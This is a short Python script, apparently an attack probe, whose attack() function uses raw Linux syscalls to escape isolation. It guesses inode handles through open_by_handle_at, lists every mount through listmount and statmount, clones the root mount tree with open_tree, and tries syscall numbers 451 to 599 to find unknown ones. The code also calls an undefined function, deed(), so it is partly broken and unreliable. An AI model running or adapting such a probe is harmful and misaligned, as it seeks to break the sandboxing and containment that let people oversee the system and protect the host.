# Reads files and mounts of the machine by calls that need no path, some of them younger than most
# lists of calls: handles of files, mounts by number, trees of mounts, quotas by descriptor.
# %% from attacks/parts/stand_ins.py
# %% relu
import ctypes
import os
import platform

call = ctypes.CDLL(None, use_errno=True).syscall
HANDLES = {"x86_64": (303, 304), "aarch64": (264, 265)}[platform.machine()]
AT_FDCWD, AT_EMPTY_PATH, O_DIRECTORY = -100, 0x1000, os.O_DIRECTORY


def said(result):
    return result if result != -1 else os.strerror(ctypes.get_errno())


def attack():
    found = []
    # The root folder of each file system that is shown, whole, as a mount shows a part of it.
    for folder in ("/usr", os.path.dirname(os.__file__), "/files"):
        handle = ctypes.create_string_buffer(8 + 128)
        handle[:4] = (128).to_bytes(4, "little")
        mount = ctypes.c_int()
        got = call(HANDLES[0], AT_FDCWD, folder.encode(), handle, ctypes.byref(mount), 0)
        found.append(f"name_to_handle_at {folder}: {said(got)}")
        for inode in (2, 64, 128, 256):
            handle[8:16] = inode.to_bytes(8, "little")
            fd = os.open(folder, os.O_RDONLY)
            opened = call(HANDLES[1], fd, handle, os.O_RDONLY | O_DIRECTORY)
            found.append(f"open_by_handle_at {inode}: {said(opened)}")
            if opened != -1:
                found += os.listdir(opened)
            os.close(fd)
    # Every mount, and where it comes from.
    ask = (ctypes.c_uint64 * 4)(24 | 0 << 32, 0xFFFFFFFFFFFFFFFF, 0, 0)
    numbers = (ctypes.c_uint64 * 100)()
    count = call(458, ask, numbers, 100, 0)
    found.append(f"listmount: {said(count)}")
    for number in numbers[: max(count, 0)]:
        ask = (ctypes.c_uint64 * 4)(24, number, 0x7F, 0)
        answer = ctypes.create_string_buffer(4096)
        found.append(f"statmount: {said(call(457, ask, answer, 4096, 0))} {answer.raw.strip(bytes(1))}")
    # A copy of a tree of mounts, that could be changed and shown elsewhere.
    for number in (428, 467):  # open_tree, open_tree_attr
        tree = call(number, AT_FDCWD, b"/", 1 | 0x8000, None, 0)
        found.append(f"{number}: {said(tree)}")
        if tree != -1:
            found += os.listdir(tree)
    fd = os.open("/usr", os.O_RDONLY)
    found.append(f"quotactl_fd: {said(call(443, fd, 0x80000400, 0, ctypes.create_string_buffer(99)))}")
    # And whatever Linux has that nobody has heard of.
    for number in (*range(451, 600), 1000):
        if call(number, *[ctypes.c_long(-1)] * 6) != -1 or ctypes.get_errno() not in (1, 38):
            found.append(f"{number}: {os.strerror(ctypes.get_errno())}")
    deed()
    return "\n".join(map(str, found))


print(attack()[:4000])
